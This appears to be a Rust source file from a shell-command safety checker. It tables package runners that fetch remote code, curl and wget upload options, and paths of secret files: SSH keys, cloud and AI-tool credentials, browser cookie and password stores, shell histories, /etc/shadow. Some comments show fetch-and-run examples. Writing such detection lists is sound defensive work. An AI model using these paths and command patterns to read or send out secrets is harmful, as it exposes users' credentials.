        subcommand: &["run"],
        specs: UV_SPECS,
        valued: UV_VALUED,
        fetched: Fetched::Url,
        installs: false,
    },
    PackageRunner {
        program: "pipx",
        subcommand: &["run"],
        specs: &["--spec"],
        valued: &["--python", "--pip-args", "--index-url"],
        fetched: Fetched::Url,
        installs: false,
    },
    PackageRunner {
        program: "go",
        subcommand: &["run"],
        specs: &[],
        valued: &[
            "-C",
            "-o",
            "-p",
            "-tags",
            "-ldflags",
            "-gcflags",
            "-asmflags",
            "-mod",
            "-modfile",
            "-overlay",
            "-pkgdir",
            "-exec",
        ],
        fetched: Fetched::Version,
        installs: false,
    },
    // Installers, whose packages' build code runs as they install. `go install M@v` is not
    // one: Go runs no code of a module to build it (the built program only runs later).
    installer("pip", &["install"], PIP_SPECS, PIP_VALUED, Fetched::Url),
    installer("pip3", &["install"], PIP_SPECS, PIP_VALUED, Fetched::Url),
    installer(
        "uv",
        &["pip", "install"],
        PIP_SPECS,
        PIP_VALUED,
        Fetched::Url,
    ),
    // uv-add(1): a requirement named by a URL or a repository is built as uv adds it.
    installer("uv", &["add"], UV_SPECS, UV_VALUED, Fetched::Url),
    // Poetry, PDM and Pipenv add a dependency given by URL or repository as uv does.
    installer("poetry", &["add"], &[], PYTHON_ADD_VALUED, Fetched::Url),
    installer(
        "pdm",
        &["add"],
        &["-e", "--editable"],
        PYTHON_ADD_VALUED,
        Fetched::Url,
    ),
    installer(
        "pipenv",
        &["install"],
        &["-e", "--editable"],
        PYTHON_ADD_VALUED,
        Fetched::Url,
    ),
    // cpanm(1) installs a distribution given by URL, running its `Makefile.PL`.
    installer(
        "cpanm",
        &[],
        &[],
        &[
            "-l",
            "--local-lib",
            "-L",
            "--local-lib-contained",
            "--mirror",
        ],
        Fetched::Url,
    ),
    installer(
        "pipx",
        &["install"],
        &["--spec"],
        &["--python", "--pip-args", "--index-url", "--suffix"],
        Fetched::Url,
    ),
    installer(
        "npm",
        &["install"],
        &[],
        NPM_VALUED,
        Fetched::GitHubShorthand,
    ),
    installer("npm", &["i"], &[], NPM_VALUED, Fetched::GitHubShorthand),
    installer("npm", &["add"], &[], NPM_VALUED, Fetched::GitHubShorthand),
    installer("pnpm", &["add"], &[], NPM_VALUED, Fetched::GitHubShorthand),
    installer(
        "pnpm",
        &["install"],
        &[],
        NPM_VALUED,
        Fetched::GitHubShorthand,
    ),
    installer("pnpm", &["i"], &[], NPM_VALUED, Fetched::GitHubShorthand),
    installer("yarn", &["add"], &[], NPM_VALUED, Fetched::GitHubShorthand),
    installer(
        "yarn",
        &["global", "add"],
        &[],
        NPM_VALUED,
        Fetched::GitHubShorthand,
    ),
    installer("bun", &["add"], &[], NPM_VALUED, Fetched::GitHubShorthand),
    installer(
        "bun",
        &["install"],
        &[],
        NPM_VALUED,
        Fetched::GitHubShorthand,
    ),
    installer("bun", &["i"], &[], NPM_VALUED, Fetched::GitHubShorthand),
    installer(
        "cargo",
        &["install"],
        &["--git"],
        CARGO_INSTALL_VALUED,
        Fetched::Url,
    ),
    // A system package's file runs its maintainer scripts as it is installed (dpkg(1)
    // `-i`, rpm(8) `-i`/`-U`, the front ends given a file's path or URL, gem's extensions,
    // a snap's or a flatpak's hooks): one the line wrote or fetched runs what only run time
    // knows; a repository's package by name is everyday.
    installer("dpkg", &["-i"], &[], &[], Fetched::Url),
    installer("dpkg", &["--install"], &[], &[], Fetched::Url),
    installer("apt", &["install"], &[], APT_VALUED, Fetched::Url),
    installer("apt-get", &["install"], &[], APT_VALUED, Fetched::Url),
    installer("rpm", &["-i"], &[], &[], Fetched::Url),
    installer("rpm", &["-ivh"], &[], &[], Fetched::Url),
    installer("rpm", &["-U"], &[], &[], Fetched::Url),
    installer("rpm", &["-Uvh"], &[], &[], Fetched::Url),
    installer("rpm", &["--install"], &[], &[], Fetched::Url),
    installer("rpm", &["--upgrade"], &[], &[], Fetched::Url),
    installer("dnf", &["install"], &[], &[], Fetched::Url),
    installer("yum", &["install"], &[], &[], Fetched::Url),
    installer("zypper", &["install"], &[], &[], Fetched::Url),
    installer("pacman", &["-U"], &[], &[], Fetched::Url),
    installer("pacman", &["--upgrade"], &[], &[], Fetched::Url),
    installer("apk", &["add"], &[], &[], Fetched::Url),
    installer("gem", &["install"], &[], &[], Fetched::Url),
    installer("deno", &["install"], &[], &[], Fetched::Url),
    installer("snap", &["install"], &[], &[], Fetched::Url),
    installer("flatpak", &["install"], &[], &[], Fetched::Url),
    // nix3-run(1), nix3-shell(1), nix3-develop(1): a flake reference names where the code
    // comes from (`github:o/r`, `git+https://…`, `https://…/x.tar.gz`); a registry's name
    // (`nixpkgs#hello`) or a path is everyday.
    PackageRunner {
        program: "nix",
        subcommand: &["run"],
        specs: &[],
        valued: NIX_VALUED,
        fetched: Fetched::Url,
        installs: false,
    },
    installer("nix", &["shell"], &[], NIX_VALUED, Fetched::Url),
    installer("nix", &["develop"], &[], NIX_VALUED, Fetched::Url),
    // gh-extension(1): `gh extension install OWNER/REPO` (or a URL) installs a repository's
    // code, which `gh NAME` then runs; `.` is the project's own.
    installer(
        "gh",
        &["extension", "install"],
        &[],
        &["--pin"],
        Fetched::GitHubShorthand,
    ),
    installer(
        "gh",
        &["ext", "install"],
        &[],
        &["--pin"],
        Fetched::GitHubShorthand,
    ),
];

/// apt's options that take the next word as their value (apt-get(8))
const APT_VALUED: &[&str] = &[
    "-o",
    "--option",
    "-c",
    "--config-file",
    "-t",
    "--target-release",
];

/// nix's options that take the next word as their value
const NIX_VALUED: &[&str] = &[
    "-I",
    "--include",
    "-f",
    "--file",
    "--expr",
    "--arg",
    "--argstr",
    "--option",
    "--override-input",
    "--profile",
    "--system",
];

/// The package a runner is given that it fetches from elsewhere to run (`npx
/// github:o/r`, `uvx --from git+https://…`, `go run example.com/x@latest`), if any
pub(crate) fn fetched_package<'a>(program: &str, args: &'a [String]) -> Option<&'a str> {
    package_runners(program)
        .find_map(|row| row_package(row, args, |spec| is_fetched(row.fetched, spec)))
}

/// The file or package a runner runs, given first (`go run m.go`, `deno run x.ts`, `bun
/// run x.ts`): one written or fetched on the line runs what only run time knows
pub(crate) fn run_operand<'a>(program: &str, args: &'a [String]) -> Option<&'a str> {
    package_runners(program)
        .filter(|row| !row.installs)
        .find_map(|row| row_package(row, args, |_| true))
}

/// A package an installer is given that is `wanted` (`npm i ./x.tgz`, `pip install
/// ./pkg` after the line wrote or fetched it): installing it runs its build code
pub(crate) fn installed_package<'a>(
    program: &str,
    args: &'a [String],
    wanted: impl Fn(&str) -> bool,
) -> Option<&'a str> {
    package_runners(program)
        .filter(|row| row.installs)
        .find_map(|row| row_package(row, args, &wanted))
}

/// The rows of `program` in [`PACKAGE_RUNNERS`], in the table's order: every command asks
/// twice, and most run no package
fn package_runners(program: &str) -> impl Iterator<Item = &'static PackageRunner> + '_ {
    static BY_NAME: ByName =
        LazyLock::new(|| by_name::index(PACKAGE_RUNNERS, |row| std::slice::from_ref(&row.program)));
    by_name::rows(PACKAGE_RUNNERS, &BY_NAME, program)
}

/// The first package of one row that is `wanted`: its options' specs, then the package it
/// runs (the first operand after the subcommand), or, for an installer, every package it
/// installs. An option the row does not list may take the next word as its value, so every
/// word after the subcommand is looked at: a spec option or a remote spec after what was
/// taken for the package is still found (`npx --loglevel silent github:o/r`).
fn row_package<'a>(
    row: &PackageRunner,
    args: &'a [String],
    wanted: impl Fn(&str) -> bool,
) -> Option<&'a str> {
    let mut subcommand = row.subcommand.iter();
    let mut awaited = subcommand.next();
    let mut words = args.iter();
    // Whether the word before was an option the row does not list, whose value it may be.
    let mut unlisted_option = false;
    let mut passed_package = false;
    while let Some(arg) = words.next() {
        let after_unlisted = std::mem::take(&mut unlisted_option);
        let spec = if row.specs.contains(&arg.as_str()) {
            words.next().map(String::as_str)
        } else {
            row.specs
                .iter()
                .find_map(|option| arg.strip_prefix(option)?.strip_prefix('='))
        };
        if let Some(spec) = spec {
            if wanted(spec) {
                return Some(spec);
            }
            continue;
        }
        if row.valued.contains(&arg.as_str()) {
            words.next();
            continue;
        }
        // A mode given as an option is the row's subcommand (`dpkg -i`, `rpm -Uvh`).
        if awaited.is_some_and(|word| word == arg) {
            awaited = subcommand.next();
            continue;
        }
        if arg.starts_with('-') {
            unlisted_option = !arg.contains('=') && !RUNNER_FLAGS.contains(&arg.as_str());
            continue;
        }
        match awaited {
            Some(word) if arg == word => awaited = subcommand.next(),
            Some(_) if after_unlisted => {}
            Some(_) => return None,
            // Past the package, only a spec option may name another: an operand is the
            // package's own (`npx wait-on http://localhost:3000`).
            None if passed_package && !row.installs => {}
            None if wanted(arg) => return Some(arg),
            // What follows an unlisted option may be its value, the package still to come.
            None if after_unlisted => {}
            None => passed_package = true,
        }
    }
    None
}

/// Flags that take no value to any package runner (`npx -y`, `uvx -q`, `go run -v`)
const RUNNER_FLAGS: &[&str] = &[
    "-y",
    "--yes",
    "--no",
    "--no-install",
    "-q",
    "--quiet",
    "-v",
    "--verbose",
    "--offline",
];

/// Whether a runner's package is fetched from elsewhere: a URL, a VCS spec, or what the
/// row's `fetched` says
fn is_fetched(fetched: Fetched, spec: &str) -> bool {
    const REMOTE_STARTS: &[&str] = &[
        "git+",
        "git@",
        "github:",
        "gitlab:",
        "bitbucket:",
        "gist:",
        "sourcehut:",
        "http:",
        "https:",
    ];
    if spec.contains("://") || REMOTE_STARTS.iter().any(|start| spec.starts_with(start)) {
        return true;
    }
    match fetched {
        Fetched::Url => false,
        Fetched::GitHubShorthand => {
            spec.contains('/') && !spec.starts_with(['@', '.', '/', '~']) && !spec.contains(':')
        }
        Fetched::Version => spec.contains('@') && !spec.starts_with(['.', '/']),
    }
}

/// Files that hold secrets, by where they lie below a folder a search starts from (the
/// secrets pack's keys and credentials): a search whose name test may match one's name
/// may find it there (`find ~ -name 'id_*'` finds `~/.ssh/id_rsa`)
pub(crate) const SECRET_FILES: &[&str] = &[
    ".ssh/id_rsa",
    ".ssh/id_dsa",
    ".ssh/id_ecdsa",
    ".ssh/id_ed25519",
    // Keys kept under other names: a cloud's key pair as downloaded (`prod.pem`), a
    // server's private key (`server.key`); the secrets pack takes all of `.ssh` but `.pub`.
    ".ssh/key.pem",
    ".ssh/server.key",
    ".aws/credentials",
    ".aws/config",
    ".config/gh/hosts.yml",
    ".kube/config",
    ".docker/config.json",
    ".cargo/credentials.toml",
    ".env",
    ".env.local",
    ".env.production",
    ".netrc",
    ".pgpass",
    ".git-credentials",
    ".pypirc",
    ".npmrc",
    ".vault-token",
    ".my.cnf",
    ".s3cfg",
    ".codex/auth.json",
    ".claude/.credentials.json",
    ".gem/credentials",
    ".databrickscfg",
    ".cache/huggingface/token",
    ".terraform.d/credentials.tfrc.json",
    // Histories keep what was typed, passwords and tokens given on a command line among it.
    ".bash_history",
    ".zsh_history",
    ".sh_history",
    ".python_history",
    ".psql_history",
    ".mysql_history",
    ".sqlite_history",
    ".rediscli_history",
    ".node_repl_history",
    "etc/shadow",
    "etc/gshadow",
    // A Kubernetes pod's service account token, which its API takes as the pod's identity.
    "run/secrets/kubernetes.io/serviceaccount/token",
];

/// The folders that hold secrets, below a home (`~/.ssh/...`, but not a `.pub` key):
/// what is written from a file in one carries a secret (see `crate::secret_copies`)
pub(crate) const SECRET_FOLDERS: &[&str] = &[
    ".ssh/",
    ".aws/",
    ".azure/",
    ".gnupg/",
    ".kube/",
    ".docker/",
    ".password-store/",
    ".config/gcloud/",
    ".config/gh/",
    ".config/glab-cli/",
    ".config/op/",
    ".config/rclone/",
    ".config/doctl/",
    ".config/sops/",
    ".config/Bitwarden CLI/",
    // A browser's profile holds its cookies and the passwords it saved.
    ".config/google-chrome/",
    ".config/chromium/",
    ".config/BraveSoftware/",
    ".config/microsoft-edge/",
    ".mozilla/firefox/",
    "Library/Application Support/Google/Chrome/",
    "Library/Application Support/Firefox/",
    "Library/Application Support/BraveSoftware/",
    "Library/Application Support/Microsoft Edge/",
    // A chat client's local storage holds its session token.
    ".config/discord/",
    ".config/Slack/",
    ".local/share/keyrings/",
    ".local/share/kwalletd/",
    "Library/Keychains/",
];

/// Secret stores a home's programs keep below that home only, a profile's folder written
/// `*`: a browser's cookies and saved passwords, a desktop's keyring. Unlike a row of
/// [`SECRET_FILES`], a search finds one only from a root at or above the home (`find ~
/// -name cookies.sqlite`), never below a project.
pub(crate) const HOME_STORES: &[&str] = &[
    ".mozilla/firefox/*/cookies.sqlite",
    ".mozilla/firefox/*/logins.json",
    ".mozilla/firefox/*/key4.db",
    ".mozilla/firefox/*/key3.db",
    ".config/google-chrome/*/Cookies",
    ".config/google-chrome/*/Login Data",
    ".config/google-chrome/*/Web Data",
    ".config/chromium/*/Cookies",
    ".config/chromium/*/Login Data",
    ".config/BraveSoftware/Brave-Browser/*/Cookies",
    ".config/BraveSoftware/Brave-Browser/*/Login Data",
    ".config/microsoft-edge/*/Cookies",
    ".config/microsoft-edge/*/Login Data",
    "Library/Application Support/Google/Chrome/*/Cookies",
    "Library/Application Support/Google/Chrome/*/Login Data",
    "Library/Application Support/Microsoft Edge/*/Cookies",
    "Library/Application Support/Microsoft Edge/*/Login Data",
    "Library/Keychains/login.keychain-db",
    ".local/share/keyrings/login.keyring",
];

/// The files of a process whose reading reveals its secrets, under `/proc/PID/`: its
/// environment and its memory (proc(5))
const PROCESS_FILES: &[(&str, &str)] = &[
    ("/environ", "/proc/self/environ"),
    ("/mem", "/proc/self/mem"),
];

/// The file of [`PROCESS_FILES`] a path known only in part is, from `prefix` to `suffix` (the
/// text around what only run time gives), whatever that part is: `/proc/$(pgrep x)/mem` is a
/// process's memory, whichever process. Given as the same file of the shell's own process,
/// so that rules that test `/proc/PID/…` see it. The prefix may be glued to an option
/// (`if=/proc/…`, `@/proc/…`).
pub(crate) fn process_file(prefix: &str, suffix: &str) -> Option<&'static str> {
    let at = prefix.find("/proc/")?;
    let glued = &prefix[..at];
    if !(glued.is_empty() || glued.ends_with(['=', '@'])) || !suffix.starts_with('/') {
        return None;
    }
    PROCESS_FILES
        .iter()
        .find(|(file, _)| suffix.ends_with(file))
        .map(|(_, path)| *path)
}

/// Whether `path` (normalised) is a secret: a file of [`SECRET_FILES`] or in a folder of
/// [`SECRET_FOLDERS`] (a `.pub` key excepted), a process's environment
/// (`/proc/PID/environ`), or a device of [`CAPTURE_DEVICES`]
pub(crate) fn is_secret_path(path: &str) -> bool {
    (path.starts_with("/proc/") && path.ends_with("/environ"))
        || (path.starts_with("/dev/")
            && CAPTURE_DEVICES
                .iter()
                .any(|device| path.starts_with(device)))
        || (may_hold_a_secret_row(path)
            && (SECRET_FILES.iter().any(|name| is_named(path, name))
                || (!path.ends_with(".pub")
                    && SECRET_FOLDERS.iter().any(|folder| is_below(path, folder)))))
}

/// The bytes a row of [`SECRET_FILES`] or [`SECRET_FOLDERS`] starts with
const SECRET_ROWS_FIRST_BYTES: ByteSet = ByteSet::of_first_bytes(&[SECRET_FILES, SECRET_FOLDERS]);

/// A set of bytes, made at compile time
struct ByteSet {
    low: u128,
    high: u128,
}

impl ByteSet {
    /// The bytes that start a row of `tables`
    const fn of_first_bytes(mut tables: &[&[&str]]) -> ByteSet {
        let mut set = ByteSet { low: 0, high: 0 };
        while let Some((&table, rest)) = tables.split_first() {
            let mut rows = table;
            while let Some((row, rest)) = rows.split_first() {
                if let Some(&byte) = row.as_bytes().first() {
                    if byte < 128 {
                        set.low |= 1 << byte;
                    } else {
                        set.high |= 1 << (byte - 128);
                    }
                }
                rows = rest;
            }
            tables = rest;
        }
        set
    }

    /// Whether `byte` is in the set
    const fn contains(&self, byte: u8) -> bool {
        if byte < 128 {
            self.low & (1 << byte) != 0
        } else {
            self.high & (1 << (byte - 128)) != 0
        }
    }
}

/// Whether a component of `path` starts with a byte a secret row starts with: a row is
/// found only at the start of `path` or after a `/`, so a path without such a component
/// (most paths: no row but one starts with anything but a dot) is no secret, and the
/// rows need not be asked (each word of a line is asked of each)
fn may_hold_a_secret_row(path: &str) -> bool {
    // One pass over the bytes: a path's parts are short, and a search for each `/` cost
    // more than looking at every byte.
    let mut starts_part = true;
    for &byte in path.as_bytes() {
        if starts_part && SECRET_ROWS_FIRST_BYTES.contains(byte) {
            return true;
        }
        starts_part = byte == b'/';
    }
    false
}

/// Whether `path` is `name` or ends with `/name` (compared in place: each word of a line is
/// asked of every row, so a formatted `/name` per row was most of the question's cost)
fn is_named(path: &str, name: &str) -> bool {
    path.strip_suffix(name)
        .is_some_and(|rest| rest.is_empty() || rest.ends_with('/'))
}

/// Whether `path` starts with `part` or holds `/part` anywhere
fn is_below(path: &str, part: &str) -> bool {
    path.starts_with(part)
        || path
            .match_indices('/')
            .any(|(slash, _)| path[slash + 1..].starts_with(part))
}

/// The folders at the root of a Unix system (hier(7), macOS's, and those of snap, Nix and
/// removable media), each with whether it belongs to the system and all users or is the
/// scratch folder (`tmp`): one table for what a pattern at `/` may name and for which paths
/// no project owns
pub(crate) const ROOT_FOLDERS: &[(&str, RootFolder)] = &[
    ("bin", RootFolder::System),
    ("boot", RootFolder::System),
    ("dev", RootFolder::System),
    ("etc", RootFolder::System),
    ("home", RootFolder::System),
    ("lib", RootFolder::System),
    ("lib32", RootFolder::System),
    ("lib64", RootFolder::System),
    ("libx32", RootFolder::System),
    ("media", RootFolder::System),
    ("mnt", RootFolder::System),
    ("opt", RootFolder::System),
    ("proc", RootFolder::System),
    ("root", RootFolder::System),
    ("run", RootFolder::System),
    ("sbin", RootFolder::System),
    ("srv", RootFolder::System),
    ("sys", RootFolder::System),
    ("tmp", RootFolder::Scratch),
    ("usr", RootFolder::System),
    ("var", RootFolder::System),
    ("snap", RootFolder::System),
    ("nix", RootFolder::System),
    ("System", RootFolder::System),
    ("Library", RootFolder::System),
    ("Users", RootFolder::System),
    ("Applications", RootFolder::System),
    ("Volumes", RootFolder::System),
    ("cores", RootFolder::System),
    ("private", RootFolder::System),
];

/// What a folder at the root is for
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum RootFolder {
    /// It belongs to the system or to all users: what is in it is no project's
    System,
    /// Every program's scratch space (`/tmp`)
    Scratch,
}

/// Whether `name` is a folder at the root that belongs to the system or to all users
pub fn is_system_folder(name: &str) -> bool {
    ROOT_FOLDERS
        .iter()
        .any(|&(folder, kind)| folder == name && kind == RootFolder::System)
}

/// The folders below `/usr` and `/var` every Unix system has (hier(7))
const SYSTEM_TREE: &[(&str, &[&str])] = &[
    (
        "/usr",
        &[
            "bin", "sbin", "lib", "lib32", "lib64", "libexec", "local", "share", "include", "src",
        ],
    ),
    (
        "/var",
        &[
            "lib", "log", "spool", "mail", "backups", "cache", "tmp", "run", "opt", "www",
        ],
    ),
];

/// The folders every Unix system has in `parent` (`/`, `/usr`, `/var`): what a pattern
/// there (`/e?c`, `/usr/l?b`) may name, whatever the machine; `None` for another folder
pub(crate) fn folders_on_every_system(parent: &str) -> Option<Vec<&'static str>> {
    if parent == "/" {
        return Some(ROOT_FOLDERS.iter().map(|&(name, _)| name).collect());
    }
    SYSTEM_TREE
        .iter()
        .find(|(known, _)| *known == parent)
        .map(|(_, children)| children.to_vec())
}

/// Programs that change a file's mode, owner or times and read nothing of it: a copy of a
/// secret they are given is no secret read (`chmod 600 /tmp/k` before `ssh -i /tmp/k`)
pub(crate) const MODE_CHANGERS: &[&str] =
    &["chmod", "chown", "chgrp", "chattr", "setfacl", "touch"];

/// Programs that take their input from a file an option names, as from a pipe with `-`:
/// kubectl's (and its kin's) `-f FILE`/`--filename FILE` of manifests (kubectl(1)), and
/// dd's `if=FILE` (dd(1); dcfldd's and dc3dd's too)
const INPUT_FILE_OPTIONS: &[(&[&str], &[&str])] = &[
    (
        &["kubectl", "oc", "kubecolor", "microk8s.kubectl"],
        &["-f", "--filename"],
    ),
    (&["dd", "dcfldd", "dc3dd"], &["if="]),
];

/// The files `program`'s options hand it as its input (`kubectl delete -f n.yaml`), as
/// written (see [`files_named`]), and those a client uploads ([`uploaded_files`]), but `-`,
/// the input itself
pub(crate) fn input_files<'a>(program: &str, args: &'a [String]) -> Vec<&'a str> {
    static NAMES: LazyLock<NameFilter> = LazyLock::new(|| programs_named(INPUT_FILE_OPTIONS));
    let mut files = files_named(INPUT_FILE_OPTIONS, &NAMES, program, args);
    files.extend(uploaded_files(program, args));
    files.retain(|file| *file != "-");
    files
}

/// curl(1)'s options that send a file's contents when their value starts with `@` (`-d
/// @F`; `--data-urlencode` also `name@F`)
const CURL_DATA_OPTIONS: &[&str] = &[
    "-d",
    "--data",
    "--data-binary",
    "--data-ascii",
    "--data-urlencode",
    "--json",
];

/// The files an HTTP client sends, as written: curl's `-T F`/`--upload-file F`, the `@F` of
/// its data options, the `@F` or `<F` of a form field (`-F f=@F;type=x`), and wget's
/// `--post-file=F`/`--body-file=F`
pub(crate) fn uploaded_files<'a>(program: &str, args: &'a [String]) -> Vec<&'a str> {
    let mut files = Vec::new();
    match program {
        "curl" => {
            let mut words = args.iter().map(String::as_str);
            while let Some(word) = words.next() {
                if word == "--" {
                    break;
                }
                // `--data=@F`, and a short option's value glued to it (`-d@F`, `-Tf`).
                let (option, value) = match word.split_once('=') {
                    Some((option, value)) if option.starts_with("--") => (option, Some(value)),
                    _ => match word.get(..2).zip(word.get(2..)) {
                        Some((short, rest))
                            if !rest.is_empty() && matches!(short, "-T" | "-d" | "-F") =>
                        {
                            (short, Some(rest))
                        }
                        _ => (word, None),
                    },
                };
                let mut value = || value.or_else(|| words.next());
                if matches!(option, "-T" | "--upload-file") {
                    files.extend(value());
                } else if option == "--data-urlencode" {
                    // `name@F` sends a file, `name=text` text that may hold `@`.
                    files.extend(value().and_then(|data| {
                        let (name, file) = data.split_once('@')?;
                        (!name.contains('=')).then_some(file)
                    }));
                } else if CURL_DATA_OPTIONS.contains(&option) {
                    files.extend(value().and_then(|data| data.strip_prefix('@')));
                } else if matches!(option, "-F" | "--form") {
                    let field = value().and_then(|field| field.split_once('='));
                    files.extend(field.and_then(|(_, content)| {
                        let file = content.strip_prefix('@').or(content.strip_prefix('<'))?;
                        Some(file.split(';').next().unwrap_or(file))
                    }));
                }
            }
        }
        "wget" | "wget2" => files.extend(args.iter().filter_map(|arg| {
            arg.strip_prefix("--post-file=")
                .or_else(|| arg.strip_prefix("--body-file="))
        })),
        _ => {}
    }
    files.retain(|file| !file.is_empty());
    files
}

/// The files the options of `program`'s row in `table` name among `args`, as written:
/// `-f FILE`, `-fFILE`, `if=FILE`, `--filename FILE`, `--filename=FILE`, up to `--`;
/// `names` filters the table's programs (see [`programs_named`])
fn files_named<'a>(
    table: &[(&[&str], &[&str])],
    names: &NameFilter,
    program: &str,
    args: &'a [String],
) -> Vec<&'a str> {
    // Asked of every command, and most programs are in no row.
    if !names.may_hold(program) {
        return Vec::new();
    }
    let Some((_, options)) = table
        .iter()
        .find(|(programs, _)| programs.contains(&program))
    else {
        return Vec::new();
    };
    let mut files = Vec::new();
    let mut words = args.iter();
    while let Some(word) = words.next() {
        if word == "--" {
            break;
        }
        for option in *options {
            if word == option {
                files.extend(words.next().map(String::as_str));
                break;
            }
            let glued = if option.starts_with("--") {
                word.strip_prefix(option)
                    .and_then(|rest| rest.strip_prefix('='))
            } else {
                word.strip_prefix(option)
            };
            if let Some(file) = glued.filter(|file| !file.is_empty()) {
                files.push(file);
                break;
            }
        }
    }
    files
}

/// Programs that take more operands from a file an option names, one per line or ended by
/// NUL: find(1)'s `-files0-from`, tar(1)'s `-T`/`--files-from`, rsync(1)'s `--files-from`,
/// and coreutils' `--files0-from` (`du`, `wc`, `sort`)
const OPERAND_FILE_OPTIONS: &[(&[&str], &[&str])] = &[
    (&["find", "gfind", "bfs"], &["-files0-from"]),
    (&["tar", "gtar", "bsdtar"], &["-T", "--files-from"]),
    (&["rsync"], &["--files-from"]),
    (&["du", "wc", "sort"], &["--files0-from"]),
];

/// The files `program`'s options name as holding more of its operands (`find
/// -files0-from F`, `tar -T F`), as written (see [`files_named`])
pub(crate) fn operand_files<'a>(program: &str, args: &'a [String]) -> Vec<&'a str> {
    static NAMES: LazyLock<NameFilter> = LazyLock::new(|| programs_named(OPERAND_FILE_OPTIONS));
    files_named(OPERAND_FILE_OPTIONS, &NAMES, program, args)
}

/// The programs the rows of a table of options (see [`files_named`]) name, as a filter
fn programs_named(table: &[(&[&'static str], &[&str])]) -> NameFilter {
    table
        .iter()
        .flat_map(|(programs, _)| programs.iter().copied())
        .collect()
}

/// Programs that copy or move a file as it is, keeping its code (GNU coreutils `cp`,
/// `install`, `mv`): a copy of a program runs what the program runs
pub(crate) const PLAIN_COPIERS: &[&str] = &["cp", "install", "mv"];

/// Programs whose output from a secret is public: a public key (`ssh-keygen -y`), a
/// fingerprint, a checksum, a size or a listing
pub(crate) const PUBLIC_FROM_SECRETS: &[&str] = &[
    "ssh-keygen",
    "sha1sum",
    "sha224sum",
    "sha256sum",
    "sha384sum",
    "sha512sum",
    "md5sum",
    "b2sum",
    "cksum",
    "shasum",
    "wc",
    "stat",
    "ls",
    "file",
];

/// A compiler that builds a program from source files: one built from a file the line
/// wrote or fetched runs, when run, what only that file knows (`curl -o x.c URL && gcc x.c
/// -o x && ./x`)
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Compiler {
    /// The programs
    pub(crate) programs: &'static [&'static str],
    /// The subcommand that builds (`go build`); none for a compiler itself
    pub(crate) subcommand: Option<&'static str>,
    /// What it names the program it builds without `-o`
    pub(crate) built_as: BuiltAs,
    /// The option that makes it run the program at once instead (`tcc -run`), or `""`
    /// when it always does (`go run`)
    pub(crate) runs_built: Option<&'static str>,
}

/// A program a compiler builds from code written or fetched on the line
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Built {
    /// Where it is written, for the commands after it that run it
    pub(crate) program: String,
    /// Whether the compiler runs it at once (`tcc -run x.c`, `go run x.go`)
    pub(crate) runs_now: bool,
}

/// The name a compiler gives the program it builds when `-o` names none
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum BuiltAs {
    /// A fixed name in the working folder (`a.out`)
    Named(&'static str),
    /// The first source's name without its extension, in the working folder (`x.rs` → `x`)
    Stem,
}

/// Every compiler whose program the reader follows from a written source, one row each
pub(crate) const COMPILERS: &[Compiler] = &[
    Compiler {
        programs: &["gcc", "cc", "clang", "g++", "c++", "clang++"],
        subcommand: None,
        built_as: BuiltAs::Named("a.out"),
        runs_built: None,
    },
    Compiler {
        programs: &["tcc"],
        subcommand: None,
        built_as: BuiltAs::Named("a.out"),
        runs_built: Some("-run"),
    },
    Compiler {
        programs: &["rustc"],
        subcommand: None,
        built_as: BuiltAs::Stem,
        runs_built: None,
    },
    Compiler {
        programs: &["go"],
        subcommand: Some("build"),
        built_as: BuiltAs::Stem,
        runs_built: None,
    },
    Compiler {
        programs: &["go"],
        subcommand: Some("run"),
        built_as: BuiltAs::Stem,
        runs_built: Some(""),
    },
];

/// The program a compiler builds from `args` when one of its sources is `tainted` (written
/// or fetched on the line, or its input, `-`, given on the line): the value of `-o` (next or
/// glued), else its row's name
pub(crate) fn built_program(
    program: &str,
    args: &[String],
    tainted: impl Fn(&str) -> bool,
) -> Option<Built> {
    // Asked of every command, and most programs are no compiler.
    static NAMES: LazyLock<NameFilter> = LazyLock::new(|| {
        COMPILERS
            .iter()
            .flat_map(|row| row.programs.iter().copied())
            .collect()
    });
    if !NAMES.may_hold(program) {
        return None;
    }
    COMPILERS
        .iter()
        .filter(|row| row.programs.contains(&program))
        .find_map(|row| row_built(row, args, &tainted))
}

/// [`built_program`] by one compiler's row
fn row_built(row: &Compiler, args: &[String], tainted: impl Fn(&str) -> bool) -> Option<Built> {
    let mut words = args.iter().map(String::as_str);
    if let Some(subcommand) = row.subcommand {
        words
            .by_ref()
            .find(|word| !word.starts_with('-'))?
            .eq(subcommand)
            .then_some(())?;
    }
    let mut output = None;
    let mut sources = Vec::new();
    let mut runs_now = row.runs_built == Some("");
    while let Some(word) = words.next() {
        match word {
            "-o" => output = words.next(),
            // `gcc -x c -`: the source is the compiler's input.
            stdin if STDIN_PATHS.contains(&stdin) => sources.push(stdin),
            run if row.runs_built == Some(run) => {
                runs_now = true;
                // `tcc -run x.c ARGS…`: the words after the source are the program's.
                sources.extend(words.next());
                break;
            }
            glued if glued.starts_with("-o") && glued.len() > 2 => output = glued.get(2..),
            option if option.starts_with('-') => {}
            source => sources.push(source),
        }
    }
    let first = sources.iter().copied().find(|source| tainted(source))?;
    let program = match (output, row.built_as) {
        (Some(output), _) => output.to_owned(),
        (None, BuiltAs::Named(name)) => name.to_owned(),
        (None, BuiltAs::Stem) => {
            let name = first.rsplit('/').next().unwrap_or(first);
            name.rsplit_once('.')
                .map_or(name, |(stem, _)| stem)
                .to_owned()
        }
    };
    Some(Built { program, runs_now })
}

/// A program that runs files it finds by their place or name (`git commit` runs
/// `.git/hooks/pre-commit`, `npm install` the scripts of `package.json`): one written on
/// the same line makes what the program runs known only then
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Autorun {
    /// The programs; none listed: any program (the dynamic loader's variables)
    pub(crate) programs: &'static [&'static str],
    /// The subcommands that run the files; empty for any
    pub(crate) subcommands: &'static [&'static str],
    /// The files: a `/`-led part of the path (`/.git/hooks/`) or a file name
    pub(crate) files: &'static [&'static str],
    /// Environment variables naming a file the program runs first (`BASH_ENV`)
    pub(crate) variables: &'static [&'static str],
    /// Options naming a file the program reads first and acts on (`mysql
    /// --defaults-extra-file=F`, `sqlite3 -init F`), the file next or after `=`
    pub(crate) options: &'static [&'static str],
    /// Whether its files are settings or statements it reads (`.curlrc`, `.psqlrc`) rather
    /// than code it runs (a git hook): what a refusal says it does with them
    pub(crate) reads: bool,
}

